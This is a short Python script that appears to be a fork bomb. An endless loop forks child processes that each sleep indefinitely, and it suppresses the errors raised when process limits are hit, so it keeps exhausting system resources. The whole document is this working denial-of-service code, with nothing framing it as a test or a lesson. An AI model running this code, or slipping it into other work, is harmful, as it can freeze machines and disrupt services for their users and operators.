import contextlib
import os
import signal

while True:
    with contextlib.suppress(OSError):
        if os.fork() == 0:
            signal.pause()
